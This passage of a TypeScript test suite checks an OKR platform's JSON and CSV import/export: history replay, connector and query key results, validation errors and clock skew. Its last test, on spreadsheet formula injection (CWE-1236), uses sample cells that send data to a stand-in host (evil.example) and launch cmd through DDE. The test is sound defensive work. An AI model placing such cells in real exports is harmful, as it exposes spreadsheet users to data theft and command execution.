      // The readings are the platform's (`system`, by `system`), and the key result keeps the
      // confidence of the person's last check-in, as in the source (the switch to the connector
      // wrote an entry, 20 → 0, replayed as a check-in without one).
      name: "a key result a connector fed after a person's check-ins, and a query reading it",
      async write(call, tick) {
        const objective = await call('POST', 'objectives', { title: 'Fed' });
        tick();
        const kr = await call('POST', 'key-results', { objective_id: objective.id, title: 'Tickets', target: 100 });
        await call('POST', 'key-results', {
          objective_id: objective.id,
          title: 'Twice the tickets',
          target: 200,
          data_source: 'query',
          query: `kr("${kr.id}") * 2`,
        });
        tick();
        await call('POST', `key-results/${kr.id}/check-ins`, { value: 20, note: 'counted', confidence: 6 });
        tick();
        const connector = await call('POST', 'connectors', { name: 'Desk', kind: 'webhook' });
        tick();
        await call('PATCH', `key-results/${kr.id}`, { data_source: 'connector', connector_id: connector.id });
        for (const value of [50, 60]) {
          tick();
          const push = await t.app.inject({ method: 'POST', url: connector.webhook_url as string, payload: { value } });
          expect(push.statusCode, push.body).toBe(200);
        }
      },
    },
  ];
  it.each(fed)('imports $name with its history as in the source', async ({ name, write, includeDeleted }) => {
    const tenant = `fed-${fed.findIndex((s) => s.name === name)}`;
    const call = await caller(tenant);
    await write(call, () => t.clock.advance(1000));
    const source = (await exported(tenant, { includeDeleted })).doc;
    await importRows(opts(`${tenant}-copy`), { json: source });
    const copy = (await exported(`${tenant}-copy`, { includeDeleted })).doc;
    // A connector comes without its last sync (README).
    for (const doc of [source, copy]) {
      for (const c of doc.resources.Connector)
        for (const name of ['last_sync_at', 'last_sync_status', 'last_value']) delete c[name];
    }
    expect(comparable(copy)).toEqual(comparable(source));
    // Who wrote each entry: the platform's as the platform's, the rest by the import's writer.
    const writers = (doc: typeof source) =>
      doc.resources.KeyResult.map((k) => (k.history as Doc[]).map((h) => (h.by === 'system' ? 'system' : 'person')));
    expect(writers(copy)).toEqual(writers(source));
  });

  it('refuses rows naming each other in a loop (a hand-edited file), naming a row of the loop', async () => {
    const token = await t.token({ tenant: 'loop' });
    const call = async (method: string, path: string, body?: Doc) =>
      (await t.call(method, `/api/v1/okr/${path}`, { token, body })).body as Doc;
    const outside = await call('POST', 'objectives', { title: 'Outside, first' });
    t.clock.advance(1000);
    const one = await call('POST', 'objectives', { title: 'One' });
    t.clock.advance(1000);
    const two = await call('POST', 'objectives', { title: 'Two', parent_objective_id: one.id });
    await call('PATCH', `objectives/${outside.id}`, { parent_objective_id: two.id });
    const source = (await exported('loop')).doc;
    const edited = (source.resources.Objective ?? []).find((o) => o.id === one.id) as Doc;
    edited.parent_objective_id = two.id;
    // Into another tenant, and into its own: there the loop's first write found the source's row
    // where its reference pointed, and the import went through, the copy naming the original.
    for (const tenant of ['loop-copy', 'loop']) {
      const before = (await exported(tenant)).doc;
      const refused = await importRows(opts(tenant), { json: source }).catch((err: Error) => err.message);
      const subject = /^Objective \d+ \((obj_\w+)\)/.exec(String(refused))?.[1];
      expect([refused, [one.id, two.id].includes(subject)], tenant).toEqual([
        expect.stringMatching(/parent_objective_id names obj_\w+, a row of this file .*; nothing was imported$/),
        true,
      ]);
      expect((await exported(tenant)).doc.resources, tenant).toEqual(before.resources);
    }
  });

  it('writes one resource as CSV, and imports a CSV into a tenant whose rows it references', async () => {
    let csv = '';
    expect(
      await exportCsv({ ...opts('source'), resource: 'KeyResult' }, (chunk) => {
        csv += chunk;
      }),
    ).toBe(9);
    const [header, ...rows] = parseCsv(csv);
    expect(header).toEqual(csvColumns(byName('KeyResult')));
    expect(header).not.toContain('history');
    expect(rows).toHaveLength(9);
    const at = (name: string) => header.indexOf(name);
    const mrr = rows.find((r) => r[at('title')] === 'Grow MRR to $120k') as string[];
    expect(JSON.parse(mrr[at('tags')])).toEqual(['revenue']);
    expect(mrr[at('owner_id')]).toBeNull();

    // Into the same tenant: its objectives exist there, so the references hold.
    expect(await importRows(opts('source'), { csv, resource: 'KeyResult' })).toEqual({ KeyResult: 9 });
    const krs = await list('source', 'key-results');
    expect(krs).toHaveLength(18);
    const copies = krs.filter((k) => k.title === 'Grow MRR to $120k');
    expect(copies.map((k) => [k.current, k.target, k.tags, k.objective_id, k.confidence])).toEqual([
      [106_500, 120_000, ['revenue'], copies[0].objective_id, copies[0].confidence],
      [106_500, 120_000, ['revenue'], copies[0].objective_id, copies[0].confidence],
    ]);
    // A CSV holds no log, but the key result's confidence (its last check-in's) all the same.
    expect(copies[0].confidence).toEqual(expect.any(Number));
  });

  it('reads CSV numbers and booleans as JSON writes them: 0x10, TRUE or yes are refused, not read as 16 or false', async () => {
    const [objective] = await list('source', 'objectives');
    const cases: [string, RegExp][] = [
      [`objective_id,title,target\r\n${objective.id},hex,0x10\r\n`, /^line 2: .*target.*; nothing was imported$/],
      [
        `objective_id,title,target,weight\r\n${objective.id},padded,10, 7 \r\n`,
        /^line 2: .*weight.*; nothing was imported$/,
      ],
      [
        `objective_id,title,target,is_deleted\r\n${objective.id},shouty,10,TRUE\r\n`,
        /^line 2: is_deleted must be true or false, not "TRUE"; nothing was imported$/,
      ],
      [
        `objective_id,title,target,is_deleted\r\n${objective.id},yes,10,yes\r\n`,
        /^line 2: is_deleted must be true or false, not "yes"/,
      ],
    ];
    for (const [csv, message] of cases) {
      const err = await importRows(opts('source'), { csv, resource: 'KeyResult' }).catch((e) => e);
      expect(err, csv).toBeInstanceOf(TransferError);
      expect(err.message, csv).toMatch(message);
    }
    expect((await list('source', 'key-results')).length).toBe(9);
    const fine = `objective_id,title,target,weight,is_deleted\r\n${objective.id},exp,1e2,0.5,false\r\n`;
    expect(await importRows(opts('source'), { csv: fine, resource: 'KeyResult' })).toEqual({ KeyResult: 1 });
    expect((await list('source', 'key-results')).find((k) => k.title === 'exp')).toMatchObject({
      target: 100,
      weight: 0.5,
    });
  });

  it('refuses a file with an invalid row, names the row and the field, and writes nothing', async () => {
    const [objective] = await list('source', 'objectives');
    const csv = `objective_id,title,target\r\n${objective.id},"Ship it, finally",10\r\n${objective.id},Bad target,abc\r\n`;
    const err = await importRows(opts('source'), { csv, resource: 'KeyResult' }).catch((e) => e);
    expect(err).toBeInstanceOf(TransferError);
    expect(err.message).toMatch(/^line 3: .*target.*; nothing was imported$/);
    expect((await list('source', 'key-results')).some((k) => k.title === 'Ship it, finally')).toBe(false);
    // The file's line, where a quoted cell before it holds line breaks (it named line 3 here).
    const broken = `objective_id,title,target\r\n${objective.id},"Two\r\nlines",10\r\n${objective.id},Bad,abc\r\n`;
    const named = await importRows(opts('source'), { csv: broken, resource: 'KeyResult' }).catch((e) => e);
    expect(named.message).toMatch(/^line 4: .*target.*; nothing was imported$/);

    await expect(importRows(opts('source'), { json: { rows: [] } })).rejects.toThrow(/not an EDM export/);
    await expect(importRows(opts('source'), { csv: 'title,bogus\r\nx,1\r\n', resource: 'KeyResult' })).rejects.toThrow(
      'CSV column bogus is not a field of KeyResult',
    );
    await expect(importRows(opts('source'), { csv: 'title\r\nx\r\n', resource: 'Nope' })).rejects.toThrow(
      'no resource Nope',
    );
  });

  it('carries every check-in of a key result, not only the newest 100 of its history, and keeps its created_at', async () => {
    const token = await t.token({ tenant: 'source' });
    const [objective] = await list('source', 'objectives');
    const created = await t.call('POST', '/api/v1/okr/key-results', {
      token,
      body: { objective_id: objective.id, title: 'A long log', target: 1000 },
    });
    expect(created.status).toBe(201);
    for (let value = 1; value <= 110; value++) {
      t.clock.advance(60_000);
      const res = await t.call('POST', `/api/v1/okr/key-results/${created.body.id}/check-ins`, {
        token,
        body: { value },
      });
      expect(res.status).toBe(201);
    }
    const checkIns = async (tenant: string) => {
      const kr = (await list(tenant, 'key-results')).find((k) => k.title === 'A long log') as Doc;
      const res = await t.call('GET', `/api/v1/okr/key-results/${kr.id}/check-ins?limit=200`, {
        token: await t.token({ tenant }),
      });
      expect(res.status).toBe(200);
      return { kr, log: (res.body.data as Doc[]).map((c) => [c.at, c.value]).reverse() };
    };
    const { doc } = await exported('source');
    expect(doc.resources.KeyResult.find((k) => k.title === 'A long log')?.history).toHaveLength(111);
    await importRows(opts('copy'), { json: doc });
    const [source, copy] = [await checkIns('source'), await checkIns('copy')];
    expect(copy.log).toHaveLength(111);
    expect(copy.log[0]).toEqual([created.body.created_at, 0]);
    expect(copy.log).toEqual(source.log);
    expect(copy.kr.created_at).toBe(created.body.created_at);
    expect((copy.kr.history as Doc[]).map((h) => h.value)).toEqual((source.kr.history as Doc[]).map((h) => h.value));

    // An export of the first version (its history the newest 100 entries) still imports, as it did.
    const v1 = structuredClone(doc);
    v1.format = 'edm.export.v1';
    for (const kr of v1.resources.KeyResult) kr.history = (kr.history as Doc[]).slice(-100);
    await importRows(opts('old'), { json: v1 });
    expect((await checkIns('old')).log).toEqual(source.log.slice(-100));
  });

  // A connector's readings and a query's entries are in the export's log too, whole: the import
  // replays them (before, the export held the newest 100 of theirs, and the copy was created at
  // the oldest of those, its earlier log gone).
  it('carries the whole log of a key result a connector fed more than 100 times, and keeps its created_at', async () => {
    const call = await caller('fed');
    const objective = await call('POST', 'objectives', { title: 'Fed' });
    const connector = await call('POST', 'connectors', { name: 'Desk', kind: 'webhook' });
    t.clock.advance(1000);
    const kr = await call('POST', 'key-results', {
      objective_id: objective.id,
      title: 'Tickets',
      target: 1000,
      data_source: 'connector',
      connector_id: connector.id,
    });
    for (let value = 1; value <= 105; value++) {
      t.clock.advance(60_000);
      const push = await t.app.inject({ method: 'POST', url: connector.webhook_url as string, payload: { value } });
      expect(push.statusCode, push.body).toBe(200);
    }
    const log = async (tenant: string) => {
      const copy = (await list(tenant, 'key-results')).find((k) => k.title === 'Tickets') as Doc;
      const res = await t.call('GET', `/api/v1/okr/key-results/${copy.id}/check-ins?limit=200`, {
        token: await t.token({ tenant }),
      });
      expect(res.status).toBe(200);
      return { kr: copy, entries: (res.body.data as Doc[]).map((c) => [c.at, c.value]).reverse() };
    };
    const { doc } = await exported('fed');
    expect(doc.resources.KeyResult[0]?.history).toHaveLength(106);
    await importRows(opts('fed-copy'), { json: doc });
    const [source, copy] = [await log('fed'), await log('fed-copy')];
    expect(source.entries).toHaveLength(106);
    expect(source.entries[0]).toEqual([kr.created_at, 0]);
    expect(copy.entries).toEqual(source.entries);
    expect([copy.kr.created_at, copy.kr.current, copy.kr.data_source]).toEqual([kr.created_at, 105, 'connector']);
  });

  // The file holds the query as it is now, not as it was before the edit: the entries the earlier
  // query wrote are replayed as they were (before, they were dropped, and the copy read the
  // edit's value as a check-in of a key result that was manual until then).
  it('keeps the whole history of a query key result whose query was edited since', async () => {
    const call = await caller('edited');
    const tick = () => t.clock.advance(1000);
    const objective = await call('POST', 'objectives', { title: 'Computed' });
    tick();
    const read = await call('POST', 'key-results', { objective_id: objective.id, title: 'Read', target: 100 });
    tick();
    const query = await call('POST', 'key-results', {
      objective_id: objective.id,
      title: 'Query',
      target: 200,
      data_source: 'query',
      query: `kr("${read.id}")`,
    });
    for (const value of [3, 5]) {
      tick();
      await call('POST', `key-results/${read.id}/check-ins`, { value });
    }
    tick();
    await call('PATCH', `key-results/${query.id}`, { query: `kr("${read.id}") * 2` });
    tick();
    await call('POST', `key-results/${read.id}/check-ins`, { value: 7 });
    const history = async (tenant: string) => {
      const row = (await list(tenant, 'key-results')).find((k) => k.title === 'Query') as Doc;
      return (row.history as Doc[]).map((h) => [h.at, h.value]);
    };
    const source = await history('edited');
    expect(source.map(([, value]) => value)).toEqual([0, 3, 5, 10, 14]);
    const { doc } = await exported('edited');
    await importRows(opts('edited-copy'), { json: doc });
    expect(await history('edited-copy')).toEqual(source);
    // And it goes on reading what it reads, with its query as edited.
    const [copied] = (await list('edited-copy', 'key-results')).filter((k) => k.title === 'Read');
    const res = await t.call('POST', `/api/v1/okr/key-results/${copied?.id}/check-ins`, {
      token: await t.token({ tenant: 'edited-copy' }),
      body: { value: 8 },
    });
    expect(res.status).toBe(201);
    expect((await history('edited-copy')).map(([, value]) => value)).toEqual([0, 3, 5, 10, 14, 16]);
  });

  it('keeps the value of a key result a connector feeds from a CSV, which holds no log, until its next sync', async () => {
    const token = await t.token({ tenant: 'source' });
    const [objective] = await list('source', 'objectives');
    const connector = await t.call('POST', '/api/v1/okr/connectors', {
      token,
      body: { name: 'Desk', kind: 'webhook' },
    });
    const push = async (value: number) => {
      const res = await t.app.inject({ method: 'POST', url: connector.body.webhook_url as string, payload: { value } });
      expect(res.statusCode, res.body).toBe(200);
    };
    const fed = await t.call('POST', '/api/v1/okr/key-results', {
      token,
      body: {
        objective_id: objective.id,
        title: 'Fed',
        target: 10,
        data_source: 'connector',
        connector_id: connector.body.id,
      },
    });
    expect(fed.status, fed.raw).toBe(201);
    t.clock.advance(1000);
    await push(7);
    let csv = '';
    await exportCsv({ ...opts('source'), resource: 'KeyResult' }, (chunk) => {
      csv += chunk;
    });
    // The connector reads on after the export: the copy holds the file's value, as the source did
    // when it was written, until the connector's next reading.
    t.clock.advance(1000);
    await push(9);
    await importRows(opts('source'), { csv, resource: 'KeyResult' });
    const copies = async () =>
      (await list('source', 'key-results'))
        .filter((k) => k.title === 'Fed')
        .map((k) => [k.current, k.progress_pct, k.data_source, k.connector_id]);
    expect(await copies()).toEqual([
      [9, 90, 'connector', connector.body.id],
      [7, 70, 'connector', connector.body.id],
    ]);
    t.clock.advance(1000);
    await push(4);
    expect(await copies()).toEqual([
      [4, 40, 'connector', connector.body.id],
      [4, 40, 'connector', connector.body.id],
    ]);
  });

  // A v1 export cut every log to its newest 100 entries: a query's cut log is not replayed (its
  // oldest kept entry, the platform's, would be its create, by the importer, at that entry's time)
  // but computed again from what it reads, from its own created_at on, as before.
  it('imports a v1 export of a query key result whose log was cut, with its created_at', async () => {
    const call = await caller('old-query');
    const objective = await call('POST', 'objectives', { title: 'Computed' });
    const read = await call('POST', 'key-results', { objective_id: objective.id, title: 'Read', target: 1000 });
    const query = await call('POST', 'key-results', {
      objective_id: objective.id,
      title: 'Query',
      target: 1000,
      data_source: 'query',
      query: `kr("${read.id}")`,
    });
    for (let value = 1; value <= 105; value++) {
      t.clock.advance(1000);
      await call('POST', `key-results/${read.id}/check-ins`, { value });
    }
    const { doc } = await exported('old-query');
    doc.format = 'edm.export.v1';
    for (const kr of doc.resources.KeyResult) kr.history = (kr.history as Doc[]).slice(-100);
    await importRows(opts('old-query-copy'), { json: doc });
    const copy = (await list('old-query-copy', 'key-results')).find((k) => k.title === 'Query') as Doc;
    expect([copy.created_at, copy.current, copy.data_source]).toEqual([query.created_at, 105, 'query']);
    expect((copy.history as Doc[]).every((h) => h.by === 'system' || h.at === query.created_at)).toBe(true);
  });

  it('imports one resource of an export with a resource named, its references to the others kept', async () => {
    const { doc } = await exported('source');
    expect(await importRows(opts('source'), { json: doc, resource: 'KeyResult' })).toEqual({ KeyResult: 9 });
    expect(await list('source', 'key-results')).toHaveLength(18);
    expect(await list('source', 'objectives')).toHaveLength(4);
    // Elsewhere the objectives they name do not exist.
    await expect(importRows(opts('copy'), { json: doc, resource: 'KeyResult' })).rejects.toThrow(
      /^KeyResult \d+ \(kr_\w+\): objective_id must name a live Objective/,
    );
    await expect(importRows(opts('copy'), { json: doc, resource: 'Nope' })).rejects.toThrow('no resource Nope');
    delete doc.resources.Connector;
    await expect(importRows(opts('copy'), { json: doc, resource: 'Connector' })).rejects.toThrow(
      'the file has no resources.Connector',
    );
  });

  it('refuses a JSON row with a field the resource does not have, or a time that is no time or in the future', async () => {
    const { doc } = await exported('source');
    const at = doc.resources.KeyResult.findIndex((k) => k.data_source === 'manual' && (k.history as Doc[]).length > 2);
    const row = `KeyResult ${at + 1} \\(${doc.resources.KeyResult[at].id}\\)`;
    const cases: [string, (kr: Doc) => void, RegExp][] = [
      ['an unknown field', (kr) => Object.assign(kr, { bogus: 1 }), /bogus is not a field of KeyResult/],
      [
        'created_at not a time',
        (kr) => Object.assign(kr, { created_at: 'not a date' }),
        /created_at must be an RFC 3339 date-time, not "not a date"/,
      ],
      [
        'created_at in a form Date.parse takes but RFC 3339 does not',
        (kr) => Object.assign(kr, { created_at: 'Mar 1 2026' }),
        /created_at must be an RFC 3339 date-time, not "Mar 1 2026"/,
      ],
      [
        'created_at on a day that does not exist',
        (kr) => Object.assign(kr, { created_at: '2026-02-30T00:00:00.000Z' }),
        /created_at must be an RFC 3339 date-time, not "2026-02-30T00:00:00\.000Z"/,
      ],
      [
        'created_at in the future',
        (kr) => Object.assign(kr, { created_at: '2999-01-01T00:00:00.000Z' }),
        /created_at must not be in the future \(2999-01-01T00:00:00\.000Z\)/,
      ],
      [
        'a check-in in the future',
        (kr) => Object.assign((kr.history as Doc[])[2], { at: '2999-01-01T00:00:00.000Z' }),
        /history\[2\]\.at must not be in the future \(2999-01-01T00:00:00\.000Z\)/,
      ],
      [
        'a check-in at no time',
        (kr) => Object.assign((kr.history as Doc[])[1], { at: 42 }),
        /history\[1\]\.at must be an RFC 3339 date-time, not 42/,
      ],
      [
        "a check-in's value that is no number: the error names the entry",
        (kr) => Object.assign((kr.history as Doc[])[2], { value: 'x' }),
        /history\[2\]\.value.*/,
      ],
      [
        // One the platform wrote (a reading, a recomputation) is written again as the platform's:
        // its value is checked all the same.
        "the platform's entry's value that is no number",
        (kr) => Object.assign((kr.history as Doc[])[2], { value: 'x', source_type: 'system' }),
        /history\[2\]\.value.*/,
      ],
      [
        "the platform's entry with a confidence, which the platform never gives",
        (kr) => Object.assign((kr.history as Doc[])[2], { confidence: 99, note: null, source_type: 'system' }),
        /history\[2\]\.confidence must be null in an entry the platform wrote \(source_type system\)/,
      ],
      [
        "the platform's entry's value out of bounds",
        (kr) => Object.assign((kr.history as Doc[])[2], { value: 1e16, source_type: 'system' }),
        /history\[2\]\.value.*/,
      ],
      [
        // The create starts at its first entry's value: the error names that entry, not current.
        "the first entry's value that is no number",
        (kr) => Object.assign((kr.history as Doc[])[0], { value: 'x' }),
        /history\[0\]\.value: .*/,
      ],
      [
        // Read-only, but set back after the log is replayed (a PATCH after the last check-in).
        'a confidence out of its bounds',
        (kr) => Object.assign(kr, { confidence: 11 }),
        /confidence.*/,
      ],
      [
        'is_deleted that is no boolean',
        (kr) => Object.assign(kr, { is_deleted: 'yes' }),
        /is_deleted must be true or false, not "yes"/,
      ],
    ];
    for (const [name, spoil, message] of cases) {
      const bad = structuredClone(doc);
      spoil(bad.resources.KeyResult[at]);
      const err = await importRows(opts('copy'), { json: bad }).catch((e) => e);
      expect(err, name).toBeInstanceOf(TransferError);
      expect(err.message, name).toMatch(new RegExp(`^${row}: ${message.source}; nothing was imported$`));
    }
    // Two rows of one id: the references to it would go to the last.
    const twice = structuredClone(doc);
    const [first, second] = twice.resources.Objective;
    const reused = first.id as string;
    second.id = reused;
    const err = await importRows(opts('copy'), { json: twice }).catch((e) => e);
    expect(err).toBeInstanceOf(TransferError);
    expect(err.message).toBe(
      `Objective 2 (${reused}): id ${reused} is the id of Objective 1 (${reused}) too; nothing was imported`,
    );
    const numbered = structuredClone(doc);
    numbered.resources.Objective[0].id = 7;
    await expect(importRows(opts('copy'), { json: numbered })).rejects.toThrow(
      'Objective 1 (7): id must be a string, not 7; nothing was imported',
    );
    expect(await list('copy', 'objectives')).toEqual([]);
    // The server's own fields of an exported row are fields too.
    expect(await importRows(opts('copy'), { json: doc })).toMatchObject({ KeyResult: 9 });
  });

  it('restores rows an earlier build took under its own rules: a blank title and tag, a tiny weight, 60 headers', async () => {
    const token = await t.token({ tenant: 'source' });
    const feed = await t.call('POST', '/api/v1/okr/connectors', {
      token,
      body: { name: 'feed', kind: 'http_json', config: { url: 'https://example.com/m', pointer: '/v' } },
    });
    expect(feed.status, feed.raw).toBe(201);
    // A lone key result, a third of the way.
    const lonely = await t.call('POST', '/api/v1/okr/objectives', { token, body: { title: 'Lonely' } });
    const third = await t.call('POST', '/api/v1/okr/key-results', {
      token,
      body: { objective_id: lonely.body.id, title: 'A third', target: 3, current: 1 },
    });
    expect(third.body.progress_pct).toBe(33.33);
    const { doc } = await exported('source');
    const headers = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`x-h${i}`, 'v']));
    Object.assign(doc.resources.Objective[0], { title: '   ', tags: ['ok', '\u200b'] });
    Object.assign(doc.resources.KeyResult.find((k) => k.id === third.body.id) as Doc, { weight: 5e-324 });
    Object.assign(doc.resources.Connector[0], {
      config: { ...(doc.resources.Connector[0].config as Doc), headers, pointer: '/v~2' },
    });
    expect(await importRows(opts('restored'), { json: doc })).toMatchObject({
      Objective: 5,
      KeyResult: 10,
      Connector: 1,
    });
    const objective = (await list('restored', 'objectives')).find((o) => o.title === '   ');
    expect(objective?.tags).toEqual(['ok', '\u200b']);
    const light = (await list('restored', 'key-results')).find((k) => k.weight === 5e-324) as Doc;
    expect([light.title, light.progress_pct]).toEqual(['A third', 33.33]);
    // Its objective's progress counts it as of a weight of 0.000001: at 5e-324 it underflowed (33).
    const parent = (await list('restored', 'objectives')).find((o) => o.id === light.objective_id) as Doc;
    expect(parent.progress_pct).toBe(33.33);
    const [connector] = await list('restored', 'connectors');
    expect(Object.keys((connector.config as Doc).headers as Doc)).toHaveLength(60);
    expect((connector.config as Doc).pointer).toBe('/v~2');
    // The API still refuses such values in a write of its own.
    const restored = await t.token({ tenant: 'restored' });
    const refused = await t.call('PATCH', `/api/v1/okr/objectives/${objective?.id}`, {
      token: restored,
      body: { title: ' ' },
    });
    expect([refused.status, (refused.body.errors as Doc[])[0]?.code]).toEqual([400, 'blank']);
    // A restored connector takes a write of what its rules allow (a new URL), not a new bad pointer.
    const url = `/api/v1/okr/connectors/${connector.id}`;
    const moved = await t.call('PATCH', url, { token: restored, body: { config: { url: 'https://example.org/m' } } });
    expect(moved.status, moved.raw).toBe(200);
    const pointer = await t.call('PATCH', url, { token: restored, body: { config: { pointer: '/w~3' } } });
    expect([pointer.status, (pointer.body.errors as Doc[])[0]?.path]).toEqual([400, '/config/pointer']);
    // A client that PATCHes back the document it read, one field changed, edits each of them:
    // what it sends back equal to the stored value (a list or an object, equal but not the same)
    // is not the write's to answer for.
    const writable = (resource: string, read: Doc) =>
      Object.fromEntries(
        Object.entries(read).filter(
          ([name]) => byName(resource).allFields[name]?.access !== 'read' && name !== 'secret',
        ),
      );
    for (const [resource, path, read, change] of [
      ['Objective', 'objectives', objective as Doc, { description: 'sent back' }],
      ['KeyResult', 'key-results', light, { unit: 'sent back' }],
      ['Connector', 'connectors', (await t.call('GET', url, { token: restored })).body, { name: 'sent back' }],
    ] as const) {
      const res = await t.call('PATCH', `/api/v1/okr/${path}/${read.id}`, {
        token: restored,
        body: { ...writable(resource, read), ...change },
      });
      expect(res.status, `${resource}: ${res.raw}`).toBe(200);
      expect(res.body).toMatchObject(change);
    }
  });

  it("leaves each status as of the import's now, where the file's rows had theirs as of their last write", async () => {
    const { doc } = await exported('source');
    // The file's statuses are as of NOW; imported 30 days later, the milestone without progress
    // has fallen further behind its pace, and no sweep is left to do for the copy.
    const later = NOW + 30 * DAY;
    expect(await importRows({ ...opts('later'), now: later }, { json: doc })).toMatchObject({ KeyResult: 9 });
    t.clock.set(later);
    const { engine } = t.app;
    expect(await engine.runJob(statusSweepJob, 'later')).toBe(0);
    const statuses = async (tenant: string) =>
      Object.fromEntries((await list(tenant, 'key-results')).map((k) => [k.title, k.status]));
    const [source, copy] = [await statuses('source'), await statuses('later')];
    expect(Object.keys(copy).sort()).toEqual(Object.keys(source).sort());
    expect(copy).not.toEqual(source);
    // The source's own rows catch up too once its server's sweep runs at that time.
    expect(await engine.runJob(statusSweepJob, 'source')).toBeGreaterThan(0);
    expect(await statuses('source')).toEqual(copy);
  });

  it("keeps a deleted row's status as its delete left it: as of that time, as the source's sweep kept it", async () => {
    const start = Date.parse('2026-09-01T12:00:00.000Z');
    t.clock.set(start);
    const call = await caller('paced');
    const cycle = await call('POST', 'cycles', { name: 'Q3', start_date: '2026-09-01', end_date: '2026-11-30' });
    const objective = await call('POST', 'objectives', { title: 'Paced', cycle_id: cycle.id });
    const kr = await call('POST', 'key-results', { objective_id: objective.id, title: 'Behind', target: 100 });
    expect(kr.status).toBe('not_started');
    // 40 days on, the source's sweep finds it behind its pace; then it is deleted.
    t.clock.set(start + 40 * DAY);
    await t.app.engine.runJob(statusSweepJob, 'paced');
    const deleted = await call('DELETE', `key-results/${kr.id}`);
    expect([deleted.status, deleted.is_deleted]).toEqual(['off_track', true]);
    t.clock.set(NOW);
    const { doc } = await exported('paced', { includeDeleted: true });
    await importRows(opts('paced-copy'), { json: doc });
    const token = await t.token({ tenant: 'paced-copy' });
    const copy = (await t.call('GET', '/api/v1/okr/key-results?include_deleted=true', { token })).body.data as Doc[];
    expect(copy.map((k) => [k.title, k.is_deleted, k.status, k.deleted_at])).toEqual([
      ['Behind', true, 'off_track', deleted.deleted_at],
    ]);
  });

  it("takes a time a little ahead of this machine's clock (another server's) as now", async () => {
    const { doc } = await exported('source');
    const at = doc.resources.KeyResult.findIndex((k) => k.data_source === 'manual' && (k.history as Doc[]).length > 2);
    const history = doc.resources.KeyResult[at].history as Doc[];
    const ahead = new Date(Date.now() + 60_000).toISOString();
    Object.assign(history[history.length - 1], { at: ahead });
    const before = Date.now();
    // This machine's clock is now here: the file's time is ahead of it.
    expect(await importRows({ ...opts('skewed'), now: undefined }, { json: doc })).toMatchObject({ KeyResult: 9 });
    const copied = (await list('skewed', 'key-results')).find((k) => k.title === doc.resources.KeyResult[at].title);
    const last = ((copied as Doc).history as Doc[]).at(-1) as Doc;
    expect(Date.parse(last.at as string)).toBeGreaterThanOrEqual(before);
    expect(Date.parse(last.at as string)).toBeLessThan(Date.parse(ahead));
  });

  // Another server's clock may be a little ahead (5 minutes at most): a time further ahead is no
  // time a row was written at.
  it("refuses a time more than 5 minutes ahead of this machine's clock as in the future", async () => {
    const { doc } = await exported('source');
    const at = doc.resources.KeyResult.findIndex((k) => k.data_source === 'manual' && (k.history as Doc[]).length > 2);
    const history = doc.resources.KeyResult[at].history as Doc[];
    const ahead = new Date(Date.now() + 10 * 60_000).toISOString();
    Object.assign(history[history.length - 1], { at: ahead });
    await expect(importRows({ ...opts('skewed'), now: undefined }, { json: doc })).rejects.toThrow(
      `history[${history.length - 1}].at must not be in the future (${ahead})`,
    );
    expect(await list('skewed', 'key-results')).toEqual([]);
  });

  it("keeps each row's provenance (source, source_type) and the application that wrote it, in JSON and CSV", async () => {
    const token = await t.token({ tenant: 'source' });
    const integration = await t.token({ tenant: 'source', app: 'app_crm' });
    const [objective] = await list('source', 'objectives');
    for (const [tok, title, source, source_type] of [
      [token, 'From the CRM', 'crm', 'backend'],
      [integration, 'By the integration', 'sync-job', 'server'],
    ] as const) {
      const res = await t.call('POST', '/api/v1/okr/key-results', {
        token: tok,
        body: { objective_id: objective.id, title, target: 5, source, source_type },
      });
      expect(res.status, res.raw).toBe(201);
    }
    const shown = (k: Doc) => [k.title, k.source, k.source_type, k.app_id];
    const expected = [
      ['By the integration', 'sync-job', 'server', 'app_crm'],
      ['From the CRM', 'crm', 'backend', null],
    ];
    const picked = async (tenant: string) =>
      (await list(tenant, 'key-results'))
        .filter((k) => ['From the CRM', 'By the integration'].includes(k.title as string))
        .map(shown)
        .sort();
    const { doc } = await exported('source');
    await importRows(opts('copy'), { json: doc });
    expect(await picked('copy')).toEqual(expected);
    let csv = '';
    await exportCsv({ ...opts('source'), resource: 'KeyResult' }, (chunk) => {
      csv += chunk;
    });
    await importRows(opts('source'), { csv, resource: 'KeyResult' });
    expect(await picked('source')).toEqual([expected[0], expected[0], expected[1], expected[1]]);
    // The application still sees what it wrote, in the copy as in the source.
    const seen = await t.call('GET', '/api/v1/okr/key-results?limit=200', {
      token: await t.token({ tenant: 'copy', app: 'app_crm' }),
    });
    expect((seen.body.data as Doc[]).map((k) => k.title)).toEqual(['By the integration']);
  });

  it('refuses a CSV whose header names a column twice', async () => {
    const csv = 'name,start_date,end_date,name\nQ1,2026-01-01,2026-03-31,Q2\n';
    await expect(importRows(opts('copy'), { csv, resource: 'Cycle' })).rejects.toThrow(
      'CSV column name appears twice in the header',
    );
  });

  it('tells an empty string from null in a CSV: "" for one, an empty cell for the other', async () => {
    const token = await t.token({ tenant: 'source' });
    const [objective] = await list('source', 'objectives');
    for (const unit of ['', null]) {
      const res = await t.call('POST', '/api/v1/okr/key-results', {
        token,
        body: { objective_id: objective.id, title: `Unit ${JSON.stringify(unit)}`, target: 5, unit },
      });
      expect(res.status).toBe(201);
    }
    let csv = '';
    await exportCsv({ ...opts('source'), resource: 'KeyResult' }, (chunk) => {
      csv += chunk;
    });
    expect(await importRows(opts('source'), { csv, resource: 'KeyResult' })).toEqual({ KeyResult: 11 });
    const units = (await list('source', 'key-results')).filter((k) => /^Unit /.test(k.title as string));
    expect(units.map((k) => `${k.title} → ${JSON.stringify(k.unit)}`).sort()).toEqual([
      'Unit "" → ""',
      'Unit "" → ""',
      'Unit null → null',
      'Unit null → null',
    ]);
  });

  // CWE-1236: a spreadsheet runs a cell that starts with =, +, -, @ (or a tab or carriage return
  // before one). An export writes such text after an apostrophe, shown as text; an import takes it off.
  it('writes text a spreadsheet would run as a formula after an apostrophe, and imports it as it was', async () => {
    const token = await t.token({ tenant: 'formulas' });
    const titles = [
      '=HYPERLINK("http://evil.example/?x="&B2,"click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+1-1',
      '-2+3',
      "'quoted already",
      '\t=1+1',
      'plain = fine',
    ];
    for (const title of titles) {
      const res = await t.call('POST', '/api/v1/okr/objectives', { token, body: { title, tags: ['=1+2', '-x'] } });
      expect(res.status, res.raw).toBe(201);
    }
    let csv = '';
    await exportCsv({ ...opts('formulas'), resource: 'Objective' }, (chunk) => {
      csv += chunk;
    });
    const [header, ...rows] = parseCsv(csv);
